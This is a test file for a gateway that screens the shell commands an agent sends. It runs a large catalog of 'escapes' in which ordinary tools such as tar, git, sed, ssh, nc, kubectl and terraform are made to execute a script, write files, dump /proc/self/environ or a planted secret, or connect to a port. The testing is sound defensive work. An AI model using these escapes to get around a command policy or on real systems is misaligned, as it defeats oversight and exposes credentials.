import assert from "node:assert/strict";
import { compilePattern, parseCommand } from "@gateway/shared/policy";
import { HOST_ESCAPES } from "../../shared/policy/analysis/escapes.ts";
import { createFolder } from "../stage/folder.ts";
import { isPostgresMissing, POSTGRES_BIN, PostgresServer } from "../stage/postgres_server.ts";

/**
 * The proof of an escape: the file `proof` that ./run wrote; any `proof`, or a change of `in`; the secret in the output
 * or in `proof`; a connection to the test.
 */
type Effect = (typeof EFFECT_NAMES)[number];
const EFFECT_NAMES = ["run", "write", "read", "connect"] as const;

/** The effect of an escape, by the first word of `gives`. */
const EFFECTS: Readonly<Record<string, Effect>> = {
  ...{ runs: "run", starts: "run", writes: "write", changes: "write", reveals: "read" },
  ...{ reaches: "connect", connects: "connect", acts: "connect" },
};

// Each line is a command as an agent sends it. Its last program is the one that is proved; the others prepare files.
// `(a|b)` stands for two commands. Indented lines continue a command.
const COMMANDS: Readonly<Record<Effect, string>> = {
  run: String.raw`
tar -cf out.tar in --checkpoint=1 --checkpoint-action=exec=./run ;; (tar|bsdtar) -cf out.tar --use-compress-program=./run in
tar (-cf out.tar -I ./run|cIf ./run out.tar) in ;; tar -cf saved.tar in && tar -xf saved.tar --to-command=./run
printf in | cpio -oO localhost:x --rsh-command=./run
sed (-n 1e./run|-ne1e./run|--expression=1e./run|-n /w/e./run|-f script|'s/.*/.\/run/eg') in
seq 4000 | sort --compress-program=./run -S 1k
(split --filter=./run in|zip -q out.zip in -T -TT ./run|zip -q out.zip in -T --unzip-command=./run) ;; rsync -e ./run nowhere:in .
printf 'syscmd(./run)' | m4 ;; dc -e '!./run' ;; (gnuplot -e|octave --eval) 'system("./run")' ;; printf 'system "./run"\n' | (irb|pry) -f
printf 'new ProcessBuilder("./run").start()' | jshell -s -
printf 'class Run { public static void main(String[] a) throws Exception { new ProcessBuilder("./run").start(); } }' | tee Run.java && java Run.java
groovy -e '"./run".execute().waitFor()' ;; scala -nc -e 'sys.process.Process("./run").!' ;; erl -noshell -eval 'os:cmd("./run"), halt().'
elixir -e 'System.shell("./run")' ;; sbcl --non-interactive --eval '(run-program "./run" nil)' ;; ghci -e ':!./run'
printf 'Sys.command "./run";;' | ocaml -stdin ;; (vi|vim|view|ex|nvim|vimdiff) -es -c '!./run' -c 'qa!' in
printf '!./run\n' | (ed -s in|ftp|lftp) ;; emacs --batch --eval '(shell-command "./run")'
git -c (alias.x=!./run x|core.fsmonitor=./run status|diff.external=./run diff)
git (grep -O./run word|difftool -y --extcmd=./run|clone -u ./run . copy|ls-remote --upload-pack=./run .)
git (push --receive-pack=./run . HEAD|-c protocol.ext.allow=always ls-remote ext::./run) ;; cp run git-x && git --exec-path=DIR x
git config core.fsmonitor ./run && git status ;; git checkout -q . && git -c user.name=a -c user.email=b rebase -x ./run --root
mkdir hooks && cp run hooks/post-checkout && git config core.hookspath hooks && git checkout -qb x ;; (make|gmake) --eval='x:;./run' x
printf 'execute_process(COMMAND ./run)' | tee x.cmake && cmake -P x.cmake
printf 'rule r\n command = ./run\nbuild x: r\n' | tee build.ninja && ninja
printf '<project default="x"><target name="x"><exec executable="./run"/></target></project>' | tee build.xml && ant -q
mkdir .mvn && printf '%s' '-Xmx6m -XX:OnOutOfMemoryError=./run' | tee .mvn/jvm.config && mvn -o validate
printf '"./run".execute().waitFor()' | tee build.gradle && gradle --offline --no-daemon -q -g DIR/g ;; (npm exec|npx) -c ./run
bundle init && bundle exec ./run ;; rake -e 'system "./run"' ;; printf 'system "./run"' | tee x.gemspec && gem build x.gemspec
cargo init -q --lib --vcs none --name x && cargo --config 'build.rustc="./run"' check
printf 'package main\n//go:generate ./run\n' | tee x.go && go generate x.go ;; (gcc|g++|cc) -wrapper ./run -x c -c /dev/null
printf 'fn main() {}' | rustc -C linker=./run -
printf 'import os\nos.system("./run")' | tee setup.py && (pip|pip3) download --no-index --no-build-isolation .
composer init -n --name=a/b && composer exec ./run ;; poetry init -n --name x && poetry run ./run
printf '[tox]\nskipsdist=true\n[testenv]\nskip_install=true\nallowlist_externals=*\ncommands=./run\n' | tee tox.ini && tox
(apt|apt-cache|aptitude) -o Dir::Bin::dpkg=./run -o Dir::State::lists=. -o Dir::State::status=in search x
apt-get -o Dir::Bin::dpkg=./run -o Dir::State::lists=. -o Dir::State::status=in indextargets
mkdir -p var/lib/dpkg/updates var/lib/dpkg/info && touch var/lib/dpkg/status && dpkg --pre-invoke=./run --root=DIR --force-not-root --configure -a
rpm --eval '%(./run)' ;; rpm --predefine 'x %(./run)' -E '%x' ;; rpm --pipe ./run -qa
(busctl --address=unixexec:path=./run list|dbus-send --bus=unixexec:path=./run / a.b)
(logsave log ./run|capsh -- -c ./run|service ../..DIR/run start|debugfs -R '!./run')
printf 'text/plain; ./run\n' | tee .mailcap && run-mailcap text/plain:in
printf 'install x ./run\n' | tee x.conf && modprobe -d DIR -C x.conf x
printf '1 0 x DIR/run\n' | tee anacrontab && anacron -d -f -n -t anacrontab -S .
printf 'DIR/in {\n prerotate\n DIR/run\n endscript\n}\n' | tee x.conf && logrotate -f -s state x.conf
cc -shared -fPIC -o lib.so lib.c && (nginx -p DIR -c /dev/null -g 'load_module DIR/lib.so;' -t| apache2 -C 'LoadFile DIR/lib.so' -f
  /dev/null -t|openssl req -engine DIR/lib.so| openssl rand -provider DIR/lib.so 1|curl --engine DIR/lib.so file:///dev/null|ssh-keygen -D
  DIR/lib.so)
printf 'global\n master-worker\nprogram x\n command DIR/end\ndefaults\n timeout client 1\n timeout server 1\n timeout connect 1\nlisten x\n
  bind unix@s\n' | tee x.cfg && haproxy -W -f x.cfg
(dnsmasq --conf-script=./end -d -p 0|openvpn --dev null --script-security 2 --up ./end)
dhclient -sf DIR/run -cf DIR/in -lf DIR/l -pf DIR/p lo
printf 'module(load="omprog")\nmodule(load="imfile")\ninput(type="imfile" file="DIR/in" tag="x")\n action(type="omprog" binary="DIR/end")\n'
  | tee x.conf && rsyslogd -n -f x.conf -i DIR/pid
initdb -N -D data && printf 'copy (select 1) to program $$DIR/run$$;\n' | postgres --single -c fsync=off -D data postgres
(ssh|sftp|autossh -M 0) -o ProxyCommand=./run nowhere ;; scp (-o ProxyCommand=./run|-S ./run) nowhere:in .
mkdir .ssh && ssh-keygen -qt ed25519 -N '' -f k && ssh-copy-id -f -i k.pub -o ProxyCommand=./run nowhere ;; mosh --ssh=./run nowhere
(socat - EXEC:./run|ncat 127.0.0.1 PORT -e ./run|nc.traditional 127.0.0.1 PORT -e ./run)
(wget --use-askpass=./run|wget2 --use-askpass=./run|aria2c --on-download-complete=./run) http://127.0.0.1:PORT
printf 'os.execute("./run")' | tee x.lua && tshark -X lua_script:x.lua -r in.pcap
printf 'os.execute("./run")' | tee x.nse && nmap --script ./x.nse -n -sn 127.0.0.1
mkdir cli-plugins && cp run cli-plugins/docker-x && docker --config DIR x
buildah --root DIR/r --runroot DIR/rr unshare ./run
printf '{current-context: c, contexts: [{name: c, context: {cluster: c, user: u}}], clusters: [{name: c, cluster: {server: "https://[::1]:1"}}],
  users: [{name: u, user: {exec: {apiVersion: client.authentication.k8s.io/v1beta1, command: DIR/run}}}]}' | tee k && kubectl --kubeconfig=k get x
printf 'resource "terraform_data" "x" {\n provisioner "local-exec" {\n command = "./run"\n }\n}\n' | tee x.tf && terraform init && terraform
  apply -auto-approve
ansible -e ansible_remote_tmp=DIR -m command -a DIR/run localhost
printf '[{hosts: localhost, gather_facts: false, tasks: [{command: DIR/run}]}]' | tee x.yaml && ansible-playbook -e ansible_remote_tmp=DIR x.yaml
puppet apply -e 'exec { "DIR/run": }' ;; printf 'system "./run"' | tee Vagrantfile && vagrant validate
printf '{"builders":[{"type":"null","communicator":"none"}],"provisioners":[{"type":"shell-local", "command":"./run"}]}' | tee x.json &&
  packer build x.json
virsh -c 'qemu+ext:///system?command=./run' list ;; (psql PGARGS -c '\! ./run'|sqlite3 :memory: '.shell ./run')
(perf stat ./run|gdbserver --wrapper ./end -- - in|hyperfine -N -r 1 ./run|ssh-agent ./run)
mkdir facts && cp run facts/x && facter --external-dir facts x
mkdir .password-store && git -C .password-store init && pass git -c alias.x=!DIR/run x`,
  write: String.raw`
tar -cf saved.tar in && tar (-xf saved.tar --transform=s/in/proof/|-tvf saved.tar --index-file=proof)
tar -cf out.tar (-g proof|--remove-files) in ;; bsdtar -cf saved.tar in && bsdtar -xf saved.tar -s /in/proof/
find in (-fprintf proof x|-fprint proof|-fls proof|-delete)
sed (-n wproof|-n 'W proof'|-n '/w/w proof'|--expression='w proof'|-i s/w/x/) in ;; (sort -o|shuf -o|iconv -o|ar q|7z a|zip -q) proof in
(cp|mv|ln|install|uniq|xxd|xxd -r|split|touch -r|truncate -r|rsync) in proof ;; (rm|unlink|shred|tee|chmod 700|setfacl -m u:1:rwx) in
(mkdir proof|rmdir gone|dd if=in of=proof|csplit -f proof in 1|patch -i fix proof) ;; printf in | cpio -o -F proof
zip -q saved in && unzip -q saved -d proof ;; gzip run && mv run.gz in.gz && gunzip -f in.gz
(rvim -es -c 'w proof' -c 'qa!' in|info -o proof info|visudo -f proof) ;; printf 'w proof\n' | red -s in
git (diff --output=proof|log --output=proof|archive -o proof HEAD|bundle create proof HEAD|init --template=. proof)
mkdir -p var/lib/dpkg/updates var/lib/dpkg/info && touch var/lib/dpkg/status && dpkg --log=proof --root=DIR --force-not-root --configure -a
mkdir -p etc/systemd/system && printf '[Install]\nAlias=proof.service\n' | tee etc/systemd/system/x.service && systemctl --root=DIR enable x.service
printf '__REALTIME_TIMESTAMP=1\n__MONOTONIC_TIMESTAMP=1\n_BOOT_ID=00000000000000000000000000000001\nA=x\n\n' |
  /lib/systemd/systemd-journal-remote -o x.journal - && journalctl --file=x.journal --cursor-file=proof
(ldconfig -C proof|update-alternatives --altdir DIR --admindir DIR --install DIR/proof x DIR/run 1)
curl -s (-o|--libcurl|--etag-save|--hsts|--alt-svc|-c) proof http://127.0.0.1:PORT
(wget -qO|wget2 -qO|aria2c -q -o|axel -q -o) proof http://127.0.0.1:PORT ;; openssl enc -base64 -in in -out proof
(tcpdump -r in.pcap -w proof|tshark -r in.pcap -w proof|nmap -n -sL -oN proof 127.0.0.1)
(docker -H tcp://127.0.0.1:PORT export -o proof x|certutil -N -d . --empty-password -P proof)
kubectl (version --client --profile=cpu --profile-output=proof|--kubeconfig=proof config set-cluster c|-s http://127.0.0.1:PORT --cache-dir=proof get pods)
ssh-keygen -qt ed25519 -N '' -f proof ;; keytool -genkeypair -keystore proof -storepass password -alias x -dname CN=x -keyalg EC`,
  read: String.raw`
(cat|head|tail|less -f|more|tac|nl|sort|uniq|paste|fold|fmt|column|cut -c1-|od -c|sed p) /proc/self/environ
(grep -a .|egrep -a .|fgrep -a ''|zgrep -a .|zcat -f|strings|comm in|join -v2 in|diff -a in) /proc/self/environ
(jq -R .|hexdump -ve '"%_p"'|tar -cf - -T|bsdtar -cf - -T|zip -q0 -|git interpret-trailers) /proc/self/environ
(base64|base32) /proc/self/environ | (base64|base32) -d ;; rev /proc/self/environ | rev ;; xxd /proc/self/environ | xxd -r
cmp -bl /proc/self/environ /dev/zero ;; yq -n --rawfile x /proc/self/environ '$x' ;; cp /proc/self/environ proof
(date|file|nft|dig @127.0.0.1 -p 1 +tries=1 +time=1) -f secret
(wc --files0-from=|sort --files0-from=|ss -F |ip -force -b |tc -force -b |bridge -force -b )secret
(tcpdump -V|nmap -n -iL|gpg -o - -z 0 --store|gpg2 -o - -z 0 --store) secret ;; git (grep --no-index .|blame --contents) secret in
curl -s (file://DIR/secret|-w @secret file:///dev/null) ;; curl -s --trace-ascii - (-d @|--json @|--url-query x@)/proc/self/environ http://127.0.0.1:PORT
openssl base64 -in secret -out copy && openssl base64 -d -in copy
openssl base64 -in /proc/self/environ -out copy && openssl base64 -d -in copy ;; printenv A
aws configure set aws_secret_access_key swordfish && aws configure get aws_secret_access_key
mkdir .password-store && gpg -z 0 -o .password-store/y.gpg --store secret && pass show y
psql PGARGS -qc "comment on schema public is 'swordfish'" ; (pg_dump|pg_dumpall|pg_basebackup -D - -Ft -Xnone -cfast) PGARGS`,
  connect: String.raw`
(systemctl|loginctl|hostnamectl|timedatectl) -H 127.0.0.1:PORT ;; (machinectl|busctl) -H 127.0.0.1:PORT list
gdbus introspect --address tcp:host=127.0.0.1,port=PORT -d a.b -o /
(ssh -p PORT|autossh -M 0 -p PORT|rlogin -p PORT|mosh --ssh='ssh -p PORT') 127.0.0.1 ;; (scp|sftp) -P PORT 127.0.0.1:in .
(telnet|ftp -n|nc|ncat|netcat|nc.openbsd|nc.traditional) 127.0.0.1 PORT ;; lftp -c 'open -p PORT 127.0.0.1; set net:max-retries 1; ls'
(socat - TCP:127.0.0.1:PORT|openssl s_client -connect 127.0.0.1:PORT) ;; (docker -H|podman --remote --url) tcp://127.0.0.1:PORT ps
kubectl -s http://127.0.0.1:PORT get x ;; redis-cli -h 127.0.0.1 -p PORT ping ;; clickhouse-client --host 127.0.0.1 --port PORT -q 'select 1'
influx -host 127.0.0.1 -port PORT -execute 'show databases'`,
};

/** Commands that run ./run if these keys are typed into their terminal. */
const KEYS: Readonly<Record<string, string>> = {
  "(less|more|man) ./page.1": "!./run\r",
  "man -P ./run ./page.1": "q",
  "most in": "E:!./run\r",
  "(nano|pico) in": "\x12\x18./run\r",
  "joe in": "\x0b!./run\r",
  "(mcedit|mc -e) in": "\x1bu./run\r",
};

/** Commands that are not run, by the reason. */
const NOT_RUN: Readonly<Record<string, string>> = {
  "Debian 12 does not package the program under this name": `
(julia|swift|ipython|pnpm|yarn|pg|yum --setopt=x|yum install|apk add|brew install|initctl|fcrontab) x
(httpd -f|websocat|chisel|cryptcat|crictl exec|crictl inspect|incus exec|nerdctl exec|nerdctl inspect) x
(nerdctl save|k3s exec|microk8s exec|oc exec|oc get secrets|oc -f|oc --cache-dir=x|oc --kubeconfig=x|helm -f|helm --kubeconfig=x|helm|argocd|flux) x
(kustomize|tofu|pulumi|salt|salt-call|chef-client|nomad|consul|vault|qm|pct|juju|sqlite|mongo|mongosh) x
(valkey-cli|cqlsh|mongodump|gcloud|az|doctl) x`,
  "needs root": `
(apt|apt-get|aptitude|dnf|zypper|pacman|flatpak) install x
(chown|chgrp|setcap|chattr|usermod|useradd|groupadd|gpasswd|passwd|chpasswd|vipw|systemd-nspawn|ip netns exec) x
(insmod|rmmod|kexec|sysctl|mount|umount|losetup|swapon|criu|bpftrace|stap|iptables -M|ip6tables -M|ebtables -M) x
(tcpdump -z|dumpcap -w) x`,
  "changes the machine outside of the directory":
    "(crontab|at|batch|incrontab|init|telinit|dnf --setopt=x) x",
  "needs another process of the account": "(gcore|ssh-add) x",
  "needs an account that can log in": "sshd -f x",
  "needs another init system": "rc-service x",
  "needs systemd as process 1, or its message bus":
    "(systemd-cat|machinectl|secret-tool|systemctl cat|snap install) x",
  "needs a network service": `
(docker run|docker inspect|podman inspect|podman save|ctr run|lxc exec|kubectl get secrets) x
(pipx|mysql|mysql -e|mariadb|mariadb -e|mysqldump|kinit|tftp|rsh) x`,
  "needs a performance counter of the processor": "rr x",
  "leaves a process on the machine": "(podman unshare|podman --conmon) x",
  "works in glibc before 2.27": "ldd x",
};

/** Programs that CI has: of Debian, and of the packages that .ci/run installs. */
const IN_CI = `
/lib/systemd/systemd-journal-remote anacron apt apt-cache apt-get autossh axel base32 base64 bridge bsdtar busctl capsh cat chmod cmp
column comm cp cpio csplit curl cut date dbus-send dc dd debugfs diff dnsmasq dpkg ed egrep ex fgrep find fmt fold ftp gdbserver git
gmake gpg grep gunzip gzip head hexdump hostnamectl hyperfine iconv info initdb install ip joe join journalctl jq kubectl ldconfig less
lftp ln loginctl logrotate logsave m4 machinectl make mkdir modprobe more mv nano nc nc.openbsd nc.traditional ncat netcat nft ninja nl
od openssl openvpn paste patch pg_basebackup pg_dump pg_dumpall pico postgres printenv printf psql red rev rlogin rm rmdir rsync
rsyslogd run-mailcap scp sed seq service setfacl sftp shred shuf socat sort split sqlite3 ss ssh ssh-agent ssh-copy-id ssh-keygen
systemctl tac tail tar tc tcpdump tee telnet timedatectl touch truncate uniq unlink unzip update-alternatives vi view visudo wc wget
wget2 xxd zcat zgrep zip`.trim().split(/\s/);

const SECRET = "swordfish";
const PATHS = ["/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin", "/bin", POSTGRES_BIN];
/** The programs run as `nobody`. */
const [NOBODY, IS_ROOT] = [65534, Deno.uid() === 0];
/** A pcapng file without packets. */
const CAPTURE = new Uint32Array([0x0a0d0d0a, 28, 0x1a2b3c4d, 1, 0, 0, 28, 1, 20, 1, 0, 20]);
const JAVA = { JAVA_TOOL_OPTIONS: "-XX:-UsePerfData" };
const ENVIRONMENT = { A: `\n${SECRET}\n`, PATH: PATHS.join(":"), TERM: "xterm", LC_ALL: "C.UTF-8", ...JAVA };
/** Each command has these files in its directory, DIR. `end` ends the server that starts it. */
const FILES: Readonly<Record<string, string>> = {
  ...{ in: "word\n", secret: `${SECRET}\n`, script: "1e./run\n", "page.1": ".TH X 1\n" },
  ...{ fix: "--- proof\n+++ proof\n@@ -0,0 +1 @@\n+word\n", "in.pcap": new TextDecoder().decode(CAPTURE) },
  "lib.c":
    'int system(); __attribute__((constructor)) void x() { system("./run"); } void C_GetFunctionList() {}',
  ...{ run: "#!/bin/sh\necho ran >>DIR/proof\n", end: "#!/bin/sh\necho ran >>DIR/proof\nkill $PPID\n" },
};
const COMMIT = "git init -q; git add in; git -c user.name=a -c user.email=b commit -qm x; echo more >>in\n";

const TABLE = HOST_ESCAPES.map(({ pattern, gives }) => ({
  ...{ pattern, matches: compilePattern(pattern), effect: EFFECTS[gives.split(" ")[0] ?? ""] },
  programs: pattern.split("(?:")[2]?.split(")")[0]?.replaceAll("\\", "").split("|") ?? [],
}));

const RUNS = [
  ...EFFECT_NAMES.flatMap((effect) => commandsOf(COMMANDS[effect]).map((each) => prepare(each, effect, ""))),
  ...Object.entries(KEYS).flatMap(([line, keys]) =>
    commandsOf(line).map((each) => prepare(each, "run", keys))
  ),
];

function commandsOf(lines: string): readonly string[] {
  return lines.trim().replaceAll("\n  ", " ").replaceAll(" ;; ", "\n").split("\n").flatMap((line) => {
    const group = /\([^()|]*\|[^()]*\)/.exec(line)?.[0];
    if (group === undefined) return [line];
    return group.slice(1, -1).split("|").map((each) => line.replaceAll(group, () => each.trimStart()));
  });
}

/** The programs of a command, and the escapes that it uses with the last one. */
function prepare(command: string, effect: Effect | undefined, keys: string) {
  const parsed = parseCommand(command);
  assert.ok(parsed.kind === "commands", `${command}: ${JSON.stringify(parsed)}`);
  const programs = parsed.commands.map(([name = ""]) => name);
  const program = programs.at(-1);
  const texts = parsed.commands.filter(([name]) => name === program).map((words) => words.join(" "));
  const uses = TABLE.filter((each) =>
    (effect ?? each.effect) === each.effect && texts.some((text) => each.matches.test(text))
  ).map(({ pattern }) => `${program} in ${pattern}`);
  assert.notEqual(uses.length, 0, `the table lists ${command}`);
  return { command, effect, keys, programs, uses };
}

const exists = (path: string) => Deno.stat(path).then(() => true, () => false);
const read = (path: string) => Deno.readTextFile(path).catch(() => "");

// An editor whose terminal is gone still writes files, and ssh-agent keeps running.
const KILL_LEFTOVERS = `
while left=$(grep -lsFz "TMPDIR=$0" /proc/[0-9]*/environ); [ -n "$left" ]; do
  for each in $left; do each=\${each%/*}; kill -9 "\${each#/proc/}"; done
done
`;

/** Runs a command. Returns its output if it does not have the effect. */
async function findFailure({ command, effect, keys }: typeof RUNS[number], database: string) {
  await using folder = await createFolder();
  const { path } = folder;
  const proof = `${path}/proof`;
  await Deno.mkdir(`${path}/gone`);
  for (const [name, text] of Object.entries(FILES)) {
    const mode = text.startsWith("#!") ? 0o755 : 0o644;
    await Deno.writeTextFile(`${path}/${name}`, text.replaceAll("DIR", path), { mode });
  }
  // Git adds a line to `in`.
  const stateOf = async () => {
    const mode = await Deno.stat(`${path}/in`).then((info) => info.mode, () => "");
    return `${mode} ${(await read(`${path}/in`)).slice(0, 5)} ${await exists(`${path}/gone`)}`;
  };
  const before = await stateOf();
  if (IS_ROOT) await new Deno.Command("chown", { args: ["-R", `${NOBODY}:${NOBODY}`, path] }).output();
  using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  let isConnected = false;
  const served = (async () => {
    for await (const connection of listener) {
      isConnected = true;
      await connection.write(new TextEncoder().encode("HTTP/1.0 200 OK\r\n\r\nx\n")).catch(() => {});
      connection.close();
    }
  })();
  const asked = Object.entries({ DIR: path, PORT: `${listener.addr.port}`, PGARGS: database })
    .reduce((text, [name, value]) => text.replaceAll(name, () => value), command);
  const script = `exec 2>&1\n${command.includes("git ") ? COMMIT : ""}${asked}`;
  const stop = new AbortController();
  const shell = keys === "" ? ["sh", "-c", script] : ["script", "-qec", script, "/dev/null"];
  const child = new Deno.Command("timeout", {
    ...{ args: ["-k", "0.1", "30", ...shell], cwd: path, signal: stop.signal, clearEnv: true },
    ...{ stdin: "piped", stdout: "piped", stderr: "null", ...(IS_ROOT ? { uid: NOBODY, gid: NOBODY } : {}) },
    env: { ...ENVIRONMENT, HOME: path, TMPDIR: path },
  }).spawn();
  const terminal = child.stdin.getWriter();
  if (keys === "") await terminal.close();
  let output = "";
  for await (const chunk of child.stdout.pipeThrough(new TextDecoderStream())) {
    output += chunk;
    if (keys === "") continue;
    // The program can discard what is typed before it is ready, so each output gets the keys.
    if (await read(proof) !== "") stop.abort();
    else await terminal.write(new TextEncoder().encode(keys)).catch(() => {});
  }
  await child.status;
  await new Deno.Command("sh", { args: ["-c", KILL_LEFTOVERS, path] }).output();
  listener.close();
  await served;
  const { stdout } = await new Deno.Command("find", { args: [path, "-name", "proof*"] }).output();
  const letters = [...output + await read(proof)].filter((letter) => letter >= "a" && letter <= "z").join("");
  const effects: Readonly<Record<Effect, boolean>> = {
    ...{
      run: (await read(proof)).startsWith("ran\n"),
      write: await stateOf() !== before || stdout.length > 0,
    },
    ...{ read: letters.includes(SECRET), connect: isConnected },
  };
  return effect === undefined || effects[effect] ? [] : [`${command}: no ${effect}\n${output}`];
}

Deno.test("each escape of each program is run, or has a reason", () => {
  const run = new Set(RUNS.flatMap(({ uses }) => uses));
  const reasons = Object.values(NOT_RUN).flatMap(commandsOf).map((each) => prepare(each, undefined, ""));
  const known = new Set([...run, ...reasons.flatMap(({ uses }) => uses)]);
  const all = TABLE.flatMap(({ programs, pattern }) => programs.map((program) => `${program} in ${pattern}`));
  assert.deepEqual(all.filter((use) => !known.has(use)), [], "neither a run nor a reason");
  for (const { command, uses } of reasons) assert.ok(!uses.every((use) => run.has(use)), `run: ${command}`);
});

Deno.test("the programs do what the table of escapes claims", async () => {
  const missing = new Set<string>();
  for (const program of new Set([...IN_CI, ...RUNS.flatMap(({ programs }) => programs)])) {
    const places = program.startsWith("/") ? [program] : PATHS.map((path) => `${path}/${program}`);
    if (!(await Promise.all(places.map(exists))).includes(true)) missing.add(program);
  }
  if (Deno.env.get("REQUIRE_REAL_SERVERS") === "1") {
    assert.deepEqual(IN_CI.filter((program) => missing.has(program)), [], "not installed");
  }
  await using server = isPostgresMissing ? undefined : await PostgresServer.start();
  const database = `-h 127.0.0.1 -p ${server?.port} -U gateway`;
  const ready = RUNS.filter(({ programs }) => !programs.some((program) => missing.has(program)));
  const text = `${
    RUNS.length - ready.length
  } of ${RUNS.length} escapes are not run: programs are not installed\n`;
  Deno.stderr.writeSync(new TextEncoder().encode(text));
  const [waiting, failures] = [ready.values(), new Array<string>()];
  const work = async () => {
    for (const each of waiting) failures.push(...await findFailure(each, database));
  };
  await Promise.all(Array.from({ length: navigator.hardwareConcurrency + 1 }, work));
  assert.equal(failures.length, 0, failures.join("\n\n"));
});
